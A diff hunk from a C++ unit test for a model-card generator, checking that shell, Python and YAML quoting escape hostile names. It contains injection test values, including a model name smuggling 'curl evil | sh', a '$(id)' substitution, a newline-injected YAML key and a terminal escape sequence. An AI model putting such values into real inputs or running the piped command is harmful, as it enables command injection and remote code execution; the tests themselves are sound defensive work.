@@ -189,7 +189,7 @@ TEST(ModelCard, NamesAreQuotedForTheShellPythonAndYaml) {
       << text;
   EXPECT_NE(text.find("from_pretrained(\"org/model; curl evil | sh # x: y\")"), std::string::npos) << text;
   EXPECT_NE(text.find("\"out's/$(id)\\\"\""), std::string::npos) << text;
-  EXPECT_TRUE(card_head("a\nlicense: mit").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
+  EXPECT_TRUE(card_head("a\nlicense: mit", "peft").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
   EXPECT_EQ(one_line("a\x1b[2J\nb"), "a\\x1b[2J b");
   EXPECT_NE(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}).find("vllm serve org/plain-1.5B --"),
             std::string::npos);
